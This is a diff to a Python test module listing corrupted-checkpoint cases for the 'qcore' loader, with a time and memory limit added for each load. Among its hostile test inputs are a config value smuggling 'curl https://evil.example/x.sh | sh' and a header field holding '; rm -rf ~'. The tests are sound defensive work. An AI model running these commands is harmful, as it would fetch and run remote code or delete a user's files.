@@ -3,28 +3,36 @@ config.json and .bin files, each with the outcome qcore must give.
 
 A :class:`Case` edits a copy of a small, valid checkpoint in place. Its outcome is ``"loads"`` (the
 input is odd but well defined) or ``"error"``: a ``qcore.QcoreError`` whose message contains every
-one of ``needles`` (the file and the key at fault).
+one of ``needles`` (the file and, where there is one, the key at fault; :func:`assert_names`).
+:func:`bounded` holds every case's load to a time and a memory limit.
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import re
 import shutil
+import signal
 import struct
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import torch
 
+from qcore.cli import escaped
+
 WEIGHTS = "diffusion_pytorch_model.safetensors"
 INDEX = "diffusion_pytorch_model.safetensors.index.json"
 BIN = "diffusion_pytorch_model.bin"
 CONFIG = "config.json"
+SHARD_1 = "diffusion_pytorch_model-00001-of-00002.safetensors"  # holds KEY in the sharded base
+SHARD_2 = "diffusion_pytorch_model-00002-of-00002.safetensors"
 KEY = "blocks.0.attn.weight"  # a 16x16 bfloat16 weight (512 bytes) of the tiny model
 SAME_SIZE_KEY = "blocks.0.proj_out.weight"  # another 16x16 bfloat16 weight
+LAST_KEY = "vace_blocks.0.proj_out.weight"  # the tensor whose bytes end the single-file base
 TINY_CONFIG = {"dim": 16, "depth": 1, "vace_depth": 1, "out_dim": 8}
 MISSING = object()  # "delete this field"
 
@@ -233,12 +241,12 @@ def header_cases() -> Iterator[Case]:
     for name, text in {"nan": "[NaN, 512]", "infinity": "[0, Infinity]", "1e400": "[0, 1e400]"}.items():
         yield Case(f"offsets-{name}", "header", _raw_field("data_offsets", text), needles=at_fault)
     yield Case("offsets-past-eof", "header", _past_end, needles=at_fault)
-    yield Case("offsets-overlap", "header", _offsets_of(SAME_SIZE_KEY), needles=(WEIGHTS,))
+    yield Case("offsets-overlap", "header", _offsets_of(SAME_SIZE_KEY), needles=(WEIGHTS, KEY, SAME_SIZE_KEY))
 
     for name, value in {"string": "x", "list": [], "null": None, "int": 7}.items():
         yield Case(f"entry-{name}", "header", _metadata_free_entry(value), needles=at_fault)
     yield Case("entry-extra-field", "header", _edit_entry("comment", "\x1b[31m; rm -rf ~"), outcome="loads")
-    yield Case("entry-removed", "header", _drop_tensor, needles=(KEY,), inspect_sees=False)
+    yield Case("entry-removed", "header", _drop_tensor, needles=at_fault, inspect_sees=False)
     yield Case("duplicate-tensor-same", "header", _duplicate_key({}), needles=at_fault)
     yield Case(
         "duplicate-tensor-other-bytes", "header", _duplicate_key({"data_offsets": [0, 512]}), needles=at_fault
@@ -257,7 +265,7 @@ def header_cases() -> Iterator[Case]:
             f"tensor-name-{name}",
             "header",
             _add_tensor(key),
-            needles=(key[:50].split("\n")[0],),
+            needles=(WEIGHTS, key[:50].split("\n")[0]),
             inspect_sees=False,
         )
 
@@ -277,7 +285,7 @@ def header_cases() -> Iterator[Case]:
         "metadata-duplicated",
         "header",
         _edit_header_text(lambda h: h[:-1] + ', "__metadata__": {"a": "1"}, "__metadata__": {"a": "2"}}'),
-        needles=(WEIGHTS,),
+        needles=(WEIGHTS, "__metadata__"),
     )
 
 
@@ -341,8 +349,10 @@ def file_cases() -> Iterator[Case]:
         "header-empty-object-with-data": lambda ckpt: write_raw(ckpt / WEIGHTS, b"{}", bytes(64)),
     }
     for name, corrupt in cases.items():
-        yield Case(f"file-{name}", "file", corrupt, needles=needles)
-    yield Case("file-no-tensors", "file", _header_bytes(b"{}"), needles=(KEY,), inspect_sees=False)
+        # Cutting the data short cuts the last tensor; other damage is to the file as a whole.
+        keys = (LAST_KEY,) if name == "truncated-data" else ()
+        yield Case(f"file-{name}", "file", corrupt, needles=(*needles, *keys))
+    yield Case("file-no-tensors", "file", _header_bytes(b"{}"), needles=(WEIGHTS, KEY), inspect_sees=False)
     yield Case("file-header-spaces-padding", "file", _bytes(_space_padded), outcome="loads")
 
 
@@ -436,13 +446,13 @@ def index_cases() -> Iterator[Case]:
         "object": ({"file": "x.safetensors"}, None),
     }
     for name, (value, _) in names.items():
-        yield Case(f"shard-name-{name}", "index", _map_key_to(value), needles=(KEY,), sharded=True)
+        yield Case(f"shard-name-{name}", "index", _map_key_to(value), needles=(INDEX, KEY), sharded=True)
 
     yield Case(
         "shard-missing",
         "index",
         lambda c: sorted(c.glob("*-00002-of-*.safetensors"))[0].unlink(),
-        needles=("00002-of-00002",),
+        needles=(INDEX, SHARD_2),
         sharded=True,
     )
     yield Case(
@@ -451,21 +461,21 @@ def index_cases() -> Iterator[Case]:
         _map_key_to(
             lambda c: next(p.name for p in sorted(c.glob("*-of-*.safetensors")) if p != shard_of(c, KEY))
         ),
-        needles=(KEY,),
+        needles=(INDEX, KEY),
         sharded=True,
     )
     yield Case(
         "key-not-in-index",
         "index",
         _edit_index(lambda i, c: i["weight_map"].pop(KEY)),
-        needles=(KEY,),
+        needles=(INDEX, KEY),
         sharded=True,
     )
     yield Case(
         "ghost-key-in-index",
         "index",
         _edit_index(lambda i, c: i["weight_map"].update({"ghost.weight": i["weight_map"][KEY]})),
-        needles=("ghost.weight",),
+        needles=(INDEX, "ghost.weight"),
         sharded=True,
     )
     weight_maps = {"missing": MISSING, "list": [], "string": "x", "null": None, "empty": {}, "int": 1}
@@ -489,7 +499,8 @@ def index_cases() -> Iterator[Case]:
         "duplicate-key": None,
     }
     for name, text in texts.items():
-        yield Case(f"index-{name}", "index", _write_index(text), needles=(INDEX,), sharded=True)
+        keys = (KEY,) if name == "duplicate-key" else ()
+        yield Case(f"index-{name}", "index", _write_index(text), needles=(INDEX, *keys), sharded=True)
     yield Case(
         "index-huge", "index", lambda c: _sparse(c / INDEX, 200 * 1024 * 1024), needles=(INDEX,), sharded=True
     )
@@ -508,13 +519,17 @@ def index_cases() -> Iterator[Case]:
         sharded=True,
     )
     yield Case(
-        "symlink-outside", "index", _symlink_shard(_outside_target), needles=("links to",), sharded=True
+        "symlink-outside",
+        "index",
+        _symlink_shard(_outside_target),
+        needles=(SHARD_1, "links to"),
+        sharded=True,
     )
     yield Case(
         "symlink-dangling",
         "index",
         _symlink_shard(lambda c, s: c / "nothing-here.safetensors"),
-        needles=("does not exist",),
+        needles=(SHARD_1, "does not exist"),
         sharded=True,
     )
     yield Case("symlink-inside", "index", _symlink_shard(_inside_target), outcome="loads", sharded=True)
@@ -574,6 +589,7 @@ def _write_config(text: str | bytes) -> Callable[[Path], None]:
 
 
 def config_cases() -> Iterator[Case]:
+    keys = {"duplicate-dim": ("dim",)}
     files = {
         "not-json": "{not json",
         "array": "[1]",
@@ -584,7 +600,7 @@ def config_cases() -> Iterator[Case]:
         '"vace_depth": 1, "out_dim": 8}',
     }
     for name, text in files.items():
-        yield Case(f"config-{name}", "config", _write_config(text), needles=(CONFIG,))
+        yield Case(f"config-{name}", "config", _write_config(text), needles=(CONFIG, *keys.get(name, ())))
     yield Case("config-huge", "config", lambda c: _sparse(c / CONFIG, 200 * 1024 * 1024), needles=(CONFIG,))
     yield Case(
         "config-unknown-field-nan",
@@ -620,40 +636,42 @@ def config_cases() -> Iterator[Case]:
                 f"config-{field}-{name}",
                 "config",
                 _set_field(field, value),
-                needles=(field,),
+                needles=(CONFIG, field),
                 inspect_sees=False,
             )
     yield Case(
         "config-depth-missing",
         "config",
         _set_field("depth", MISSING),
-        needles=("blocks.1",),
+        needles=(WEIGHTS, "blocks.1"),
         inspect_sees=False,
     )
 
 
 def quantization_config_cases() -> Iterator[Case]:
     hostile = "x; curl https://evil.example/x.sh | sh #"
+    method = (CONFIG, "quant_method")
+    unquantized = (WEIGHTS, "blocks.0.attn.weight_scale")
     values = {
-        "string": ("int8", ("quantization_config",)),
-        "number": (5, ("quantization_config",)),
-        "list": ([], ("quantization_config",)),
-        "empty-object": ({}, ("quant_method",)),
-        "null-method": ({"quant_method": None}, ("quant_method",)),
-        "int-method": ({"quant_method": 5}, ("'5'",)),
-        "shell-method": ({"quant_method": hostile}, ("curl",)),
-        "escape-method": ({"quant_method": "\x1b[31mred"}, ("red",)),
-        "long-method": ({"quant_method": "m" * 5000}, ("mmmm",)),
-        "traversal-method": ({"quant_method": "../../x"}, ("../../x",)),
-        "bad-option": ({"quant_method": "int8-test", "compute_dtype": "int4"}, ("compute_dtype",)),
+        "string": ("int8", (CONFIG, "quantization_config")),
+        "number": (5, (CONFIG, "quantization_config")),
+        "list": ([], (CONFIG, "quantization_config")),
+        "empty-object": ({}, method),
+        "null-method": ({"quant_method": None}, method),
+        "int-method": ({"quant_method": 5}, (*method, "'5'")),
+        "shell-method": ({"quant_method": hostile}, (*method, "curl")),
+        "escape-method": ({"quant_method": "\x1b[31mred"}, (*method, "red")),
+        "long-method": ({"quant_method": "m" * 5000}, (*method, "mmmm")),
+        "traversal-method": ({"quant_method": "../../x"}, (*method, "../../x")),
+        "bad-option": ({"quant_method": "int8-test", "compute_dtype": "int4"}, (CONFIG, "compute_dtype")),
         # A checkpoint's unknown option is a warning (configs of newer versions), so the load fails
         # later, on the weights, which are not quantized.
-        "unknown-option": ({"quant_method": "int8-test", "bits": 3}, ("weight_scale",)),
+        "unknown-option": ({"quant_method": "int8-test", "bits": 3}, unquantized),
         "option-wrong-type": (
             {"quant_method": "int8-test", "compute_dtype": ["bfloat16"]},
-            ("compute_dtype",),
+            (CONFIG, "compute_dtype"),
         ),
-        "unquantized-weights": ({"quant_method": "int8-test"}, ("weight_scale",)),
+        "unquantized-weights": ({"quant_method": "int8-test"}, unquantized),
     }
     for name, (value, needles) in values.items():
         yield Case(
@@ -686,7 +704,7 @@ def bin_cases() -> Iterator[Case]:
     yield Case("bin-valid", "bin", _bin(lambda s: s), outcome="loads")
     yield Case("bin-tensor-not-dict", "bin", _bin(lambda s: s[KEY]), needles=(BIN,))
     yield Case("bin-int-value", "bin", _bin(lambda s: {**s, KEY: 3}), needles=(BIN, KEY))
-    yield Case("bin-int-key", "bin", _bin(lambda s: {**s, 7: s[KEY]}), needles=(BIN, "7"))
+    yield Case("bin-int-key", "bin", _bin(lambda s: {**s, 7: s[KEY]}), needles=(BIN, "entry 7"))
     yield Case("bin-garbage", "bin", _bin(lambda s: s, raw=b"\x80" * 64), needles=(BIN,))
     yield Case("bin-empty", "bin", _bin(lambda s: s, raw=b""), needles=(BIN,))
     yield Case(
@@ -727,3 +745,78 @@ def make_base(path: Path, *, sharded: bool) -> Path:
 def copy_checkpoint(base: Path, target: Path) -> Path:
     shutil.copytree(base, target, symlinks=True)
     return target
+
+
+# --- what every case is held to -------------------------------------------------------------------
+
+_FILE_NAME = re.compile(r"[\w.-]+\.(json|safetensors|bin)")
+
+
+def assert_names(message: str, needles: Sequence[str], *dirs: Path) -> None:
+    """Every needle is in ``message`` with the directories ``dirs`` (the checkpoint, the test's temporary
+    directory) taken out: pytest names a test's directory after the test, so a path would supply the
+    needle ``dim`` of ``test_load[config-dim-string]``. A file name must stand as a name (``config.json``,
+    not part of ``ckpt-config.json`` or of the index's name)."""
+    for directory in sorted({str(p) for d in dirs for p in (d, d.resolve())}, key=len, reverse=True):
+        message = message.replace(directory, "<dir>")
+    for needle in needles:
+        if _FILE_NAME.fullmatch(needle):
+            found = re.search(rf"(?<![\w.-]){re.escape(needle)}(?![\w-]|\.[\w-])", message) is not None
+        else:
+            found = any(form in message for form in (needle, escaped(needle), repr(needle)[1:-1]))
+        assert found, f"{needle!r} not in {message!r}"
+
+
+class CaseTimeout(BaseException):
+    """A load ran past its time limit (a BaseException: no ``except Exception`` in qcore turns it into a
+    QcoreError that would satisfy the test)."""
+
+
+SECONDS = 5.0  # a case's load takes well under a second: this is a hang
+MEMORY_FACTOR = 16  # peak resident memory may grow by this many times the checkpoint's size ...
+MEMORY_SLACK = 32 * 2**20  # ... plus this (torch's and Python's allocators, the model, parsing)
+
+
+def _status_kib(field: str) -> int | None:
+    try:
+        status = Path("/proc/self/status").read_text()
+    except OSError:
+        return None
+    found = re.search(rf"^{field}:\s+(\d+) kB", status, re.MULTILINE)
+    return int(found.group(1)) if found else None
+
+
+def _reset_peak_rss() -> bool:
+    try:  # Linux: "5" resets the process's peak resident set size to the current one
+        Path("/proc/self/clear_refs").write_text("5")
+    except OSError:
+        return False
+    return True
+
+
+def checkpoint_bytes(ckpt: Path) -> int:
+    return sum(p.lstat().st_size for p in ckpt.rglob("*") if p.is_file() and not p.is_symlink())
+
+
+@contextlib.contextmanager
+def bounded(ckpt: Path, seconds: float = SECONDS) -> Iterator[None]:
+    """Fail what runs inside past ``seconds``, or whose peak resident memory grows by more than
+    MEMORY_FACTOR times ``ckpt``'s size plus MEMORY_SLACK. Uses SIGALRM, so the main thread only."""
+
+    def expire(signum: int, frame: object) -> None:
+        raise CaseTimeout(f"loading {ckpt} took more than {seconds} s")
+
+    limit = MEMORY_FACTOR * checkpoint_bytes(ckpt) + MEMORY_SLACK
+    measured = _reset_peak_rss()
+    before = _status_kib("VmRSS") if measured else None
+    previous = signal.signal(signal.SIGALRM, expire)
+    signal.setitimer(signal.ITIMER_REAL, seconds)
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+    peak = _status_kib("VmHWM") if before is not None else None
+    if before is not None and peak is not None:
+        grown = (peak - before) * 1024
+        assert grown <= limit, f"peak memory grew by {grown:,} bytes, more than {limit:,} for {ckpt}"
